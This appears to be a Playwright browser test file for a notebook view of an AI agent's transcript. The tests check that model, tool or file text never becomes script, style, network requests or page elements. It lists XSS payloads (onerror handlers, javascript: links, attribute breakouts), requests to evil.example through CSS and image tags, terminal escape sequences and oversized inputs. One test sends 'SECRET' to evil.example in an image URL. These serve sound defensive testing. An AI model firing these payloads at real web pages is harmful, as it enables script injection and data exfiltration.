"""Text of the model never becomes script, style, a request or a part of the page around it."""

from __future__ import annotations

import json
import re
from typing import TYPE_CHECKING, cast

import pytest

from tests.browser.stage import DATA, Stage, events, item, transcript

if TYPE_CHECKING:
    from playwright.sync_api import Browser

    from codex_nb.protocol.messages import Json, JsonObject

pytestmark = pytest.mark.browser

HOSTILE: dict[str, str] = {
    case["name"]: case["text"] for case in json.loads((DATA / "hostile.json").read_text())
}
HOSTILE |= {
    "pwned": "<img src=x onerror='window.pwned=1'><script>window.pwned=1</script>",
    "commandlinker": "<button data-commandlinker-command='runmenu:run'>run</button>",
    "an id of the page": "<p id='jp-main-dock-panel' class='jp-Dialog' style='inset:0'>x</p>",
    "our own classes": "<section class='cnb-approval'><button class='cnb-button'>Allow</button>",
    "an image": "![x](https://evil.example/a.png) ![y][r]\n\n[r]: https://evil.example/b.png",
    "an image of data": "![x](data:image/svg+xml,<svg onload=window.pwned=1>)",
    "a javascript link": "[x](javascript:window.pwned=1) <javascript:window.pwned=1>",
    "an encoded javascript link": "[y](JaVaScRiPt&colon;window.pwned=1) [z](java\tscript:x)",
    "a link that breaks out": '[x](https://a.example/"onmouseover="window.pwned=1)',
    "a title that breaks out": '[y](https://b.example "t\\" onclick=window.pwned=1")',
    "a poster": "<video poster='https://evil.example/p.png'></video>",
    "an image button": "<input type=image src='https://evil.example/i.png'>",
    "a style": "<style>@import 'https://evil.example/x.css'; .cnb{display:none}</style>",
    "a background": "<p style='background:url(https://evil.example/b.png)'>x</p>",
    "a prefetch": "<link rel=prefetch href='https://evil.example/'>",
    "a refresh": "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "quotes without end": "> " * 5000 + "x",
    "lists without end": "\n".join("  " * i + "- x" for i in range(400)),
    "emphasis without end": "*_" * 20_000,
    "brackets without end": "[" * 20_000,
    "a huge line": "x" * 100_000,
    "commands to a terminal": "\x1b]8;;https://evil.example/\x07x\x1b]0;t\x07\x1b]52;c;cHduZWQ=\x07",
    "keys of a prototype": "__proto__ constructor toString",
}

ALLOWED_IN_MARKDOWN = {
    "a": {"href", "rel", "target", "title"},
    "ol": {"start"},
    "td": {"align"},
    "th": {"align"},
    "pre": {"tabindex"},
}
TAGS = {
    "a", "blockquote", "br", "code", "del", "em", "h4", "h5", "h6", "hr", "li", "ol", "p", "pre",
    "span", "strong", "table", "tbody", "td", "th", "thead", "tr", "ul",
}  # fmt: skip
# What stands in Markdown and is made by the view.
OURS = {
    "button.cnb-button cnb-iconbutton cnb-copy",
    "div.cnb-block",
    "div.cnb-code",
    "div.cnb-codehead",
    "div.cnb-table",
    "li.cnb-task",
    "p.cnb-raw",
    "path.",
    "pre.cnb-plain",
    "span.cnb-check",
    "span.cnb-formula",
    "span.cnb-formula cnb-display",
    "span.cnb-language",
    "span.cnb-otherhost",
    "span.cnb-spoken",
    "svg.cnb-icon",
}
NEVER = {
    "audio", "base", "embed", "form", "frame", "iframe", "img", "link", "math", "meta", "object",
    "picture", "script", "source", "style", "template", "video",
}  # fmt: skip

AUDIT = """() => [...document.querySelectorAll(".cnb *")].map((it) => [
  it.localName,
  it.getAttribute("class") ?? "",
  it.getAttributeNames(),
  it.closest(".cnb-markdown") !== null && !it.matches(".cnb-markdown"),
  it.localName === "a" ? it.href : "",
  it.id,
])"""
OWN_DATA = {"data-cnb-level", "data-lm-suppress-shortcuts"}
# By such an id a label of the view finds its box.
OWN_ID = re.compile(r"cnb-[a-z-]+-\d+-\d+")


def audit(stage: Stage) -> list[str]:
    """What stands in the view and has no business there."""
    strange = []
    for tag, style, attributes, is_markdown, href, key in stage.page.evaluate(AUDIT):
        names = set(attributes) - OWN_DATA
        if not is_markdown and OWN_ID.fullmatch(key):
            names.remove("id")
        if tag in NEVER or (tag == "svg" and style != "cnb-icon"):
            strange.append(tag)
        if any(
            name.startswith(("on", "data-")) or name in {"id", "src", "srcdoc", "name"}
            for name in names
        ):
            strange.append(f"{tag} {sorted(names)}")
        if style and not all(part.startswith("cnb-") for part in style.split()):
            strange.append(f"{tag}.{style}")
        if tag == "a" and not href.startswith(("http://", "https://", "mailto:")):
            strange.append(href)
        if not is_markdown or f"{tag}.{style}" in OURS:
            continue
        if tag not in TAGS or names - ALLOWED_IN_MARKDOWN.get(tag, set()):
            strange.append(f"{tag} {sorted(names)} in Markdown")
    polluted = "() => window.pwned ?? window.hostile ?? ({}).hostile ?? null"
    if stage.page.evaluate(polluted) is not None:
        strange.append("script ran")
    return strange


def unfold(stage: Stage) -> None:
    """Open everything that opens, of which some is only made then."""
    for button in stage.root.get_by_role("button", name="Details").all():
        button.click()
    stage.page.evaluate(
        """() => {
          for (const it of document.querySelectorAll("details")) it.open = true;
          for (const it of document.querySelectorAll(".cnb-filefold[aria-expanded=false]"))
            it.click();
        }"""
    )
    stage.settle()


def everywhere(text: str) -> JsonObject:
    """A transcript with a text in each field that a model, a tool or a file can fill."""
    kinds: dict[str, JsonObject] = {
        "userMessage": {
            "content": [{"type": text, "name": text, "path": text, "url": text}],
        },
        "agentMessage": {"questions": [{"title": text, "options": [text, {"label": text}]}]},
        "plan": {},
        "reasoning": {},
        "commandExecution": {"command": text, "cwd": text, "exitCode": 1},
        "fileChange": {
            "changes": [
                {"path": text, "kind": {"type": "update", "move_path": text}, "diff": f"+{text}"}
            ]
        },
        "mcpToolCall": {
            "server": text,
            "tool": text,
            "arguments": {text[:99]: text},
            "result": {
                "content": [
                    {"type": "image", "data": text, "mimeType": text},
                    {"type": "text", "text": text},
                ]
            },
            "error": {"message": text},
        },
        "dynamicToolCall": {
            "namespace": text,
            "tool": text,
            "contentItems": [
                {"type": "inputImage", "imageUrl": text},
                {"type": "inputImage", "imageUrl": "https://evil.example/i.png"},
            ],
        },
        "webSearch": {
            "query": text,
            "action": {"type": "openPage", "queries": [text, text], "url": text},
            "results": [{"title": text, "url": text, "snippet": text}],
        },
        "functionCallOutput": {"name": text, "namespace": text, "output": text},
        "hookPrompt": {"fragments": [{"text": text}]},
        "imageView": {"path": text},
        "imageGeneration": {"result": text, "savedPath": text, "revisedPrompt": text},
        "collabAgentToolCall": {
            "tool": text,
            "prompt": text,
            "model": text,
            "agentsStates": {text[:99]: {"status": text, "message": text}},
        },
        "subAgentActivity": {"kind": text, "agentPath": text, "model": text},
        "enteredReviewMode": {"review": text},
        "exitedReviewMode": {"review": text},
        text[:50] or "unknown": {"value": text},
    }
    items = [
        item(kind, key=f"i{n}", text=text, output=text, body=body)
        for n, (kind, body) in enumerate(kinds.items())
    ]
    approval: JsonObject = {
        **dict.fromkeys(("title", "reason", "command", "cwd", "host", "rule", "note"), text),
        "id": "a",
        "kind": "command",
        "turn": "turn",
        "permissions": {"p": text},
        "decisions": ["accept", "accept_rule", "decline"],
        "status": "pending",
    }
    base = transcript(*items, turn_status="failed")
    turn = cast("JsonObject", cast("list[Json]", base["turns"])[0])
    turn["error"] = {
        "message": text,
        "kind": text,
        "detail": text,
        "hint": text,
        "status_code": None,
    }
    known = ("name", "host", "cwd", "detail", "hint", "model", "sandbox", "replay", "thread_id")
    base["session"] = dict.fromkeys(known, text)
    base["approvals"] = [approval, {**approval, "id": "b", "status": "declined"}]
    base["notices"] = [{"id": "n", "level": text, "text": text, "hint": text, "at": 1.0}]
    base["plan"] = {"explanation": text, "steps": [{"step": text, "status": text}]}
    return base


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_text_stays_text(stage: Stage, name: str) -> None:
    stage.show(everywhere(HOSTILE[name]))
    unfold(stage)

    assert audit(stage) == []


def test_hostile_text_stays_text_in_every_state_of_a_message_that_streams(stage: Stage) -> None:
    stage.show(transcript(item("agentMessage", status="in_progress")))
    whole = "\n\n".join(text[:2000] for text in HOSTILE.values())
    pieces = [whole[start : start + 400] for start in range(0, len(whole), 400)]
    append: JsonObject = {"op": "append", "in": "items", "id": "i", "field": "text"}
    for n, piece in enumerate(pieces):
        stage.send(events(n, {**append, "text": piece}))
    final = item("agentMessage", text=whole)
    stage.send(events(len(pieces), {"op": "put", "in": "items", "value": final}))

    assert audit(stage) == []


@pytest.mark.parametrize("kind", ["agentMessage", "commandExecution", "mcpToolCall", "userMessage"])
def test_ten_megabytes_without_a_line_end_leave_the_page_usable(stage: Stage, kind: str) -> None:
    stage.page.evaluate(
        """([transcript]) => {
          const item = transcript.items[0];
          item.text = item.output = "x".repeat(10_000_000);
          item.body = { command: item.text, tool: item.text, arguments: { a: item.text } };
          const model = makeModel({ snapshot: { n: 1, transcript }, window: null });
          const before = performance.now();
          view.default.render({ model, el: document.getElementById("out") });
          document.body.getBoundingClientRect();
          window.took = performance.now() - before;
        }""",
        [transcript(item(kind))],
    )

    assert stage.page.evaluate("() => window.took") < 2000


def test_terminal_sequences_reach_the_page_as_nothing(stage: Stage) -> None:
    text = "".join(text for name, text in HOSTILE.items() if name.startswith("terminal"))
    stage.show(transcript(item("commandExecution", status="in_progress", output=text)))

    shown = stage.root.locator(".cnb-terminal").inner_text()

    assert "SECRET" not in shown
    assert not {"\x1b", "\x07", "\x9d"} & set(shown)


def test_the_audit_finds_what_it_looks_for(stage: Stage) -> None:
    stage.show(transcript(item("agentMessage", text="x")))
    stage.page.evaluate(
        """() => {
          const block = document.querySelector(".cnb-block");
          block.innerHTML = "<a href='javascript:1' onclick='1'>x</a><img>"
            + "<p id=y class=jp-Dialog data-x=1>y</p>";
          window.pwned = 1;
        }"""
    )

    assert len(audit(stage)) >= 7


def test_a_request_is_found_that_a_weakness_would_make(chromium: Browser) -> None:
    stage = Stage(chromium)
    stage.show(transcript(item("agentMessage", text="x")))
    with stage.page.expect_event("requestfailed"):
        stage.page.evaluate(
            """() => {
              const block = document.querySelector(".cnb-block");
              block.innerHTML = "<img src=https://evil.example/?q=SECRET>";
            }"""
        )
    stage.close()

    assert stage.problems == ["requested https://evil.example/?q=SECRET"]
